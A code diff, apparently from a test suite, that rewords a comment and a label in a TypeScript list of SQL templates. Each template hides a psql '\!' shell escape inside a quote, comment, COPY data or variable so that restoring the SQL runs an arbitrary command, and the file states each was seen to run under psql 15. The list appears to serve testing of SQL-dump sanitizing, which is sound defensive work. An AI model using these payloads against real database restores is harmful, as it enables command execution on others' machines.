@@ -1,5 +1,5 @@
 /**
- * Plain SQL that makes psql run a command on the machine that restores it, although it stands within a quote, a comment
+ * Plain SQL that makes psql run a command on the machine that restores it, although it is within a quote, a comment
  * or a table's data for anyone who reads SQL in another way than psql. Each was seen to run by psql 15.
  */
 export const ATTACKS: readonly (readonly [name: string, sql: (command: string) => string])[] = [
@@ -36,7 +36,7 @@ export const ATTACKS: readonly (readonly [name: string, sql: (command: string) =
     (command) => `SELECT $${'t'.repeat(80)}$'$${'t'.repeat(80)}$;\n\\! ${command}\n--';`,
   ],
   [
-    'what stands behind a COPY on its line',
+    'what follows a COPY on its line',
     (command) => `COPY t (a) FROM stdin; SELECT '\n' || $$\n\\.\n';\n\\! ${command}\n-- $$;`,
   ],
   ['a variable within a statement', (command) => `\\set x '\\\\! ${command}'\nSELECT 1;\n:x`],
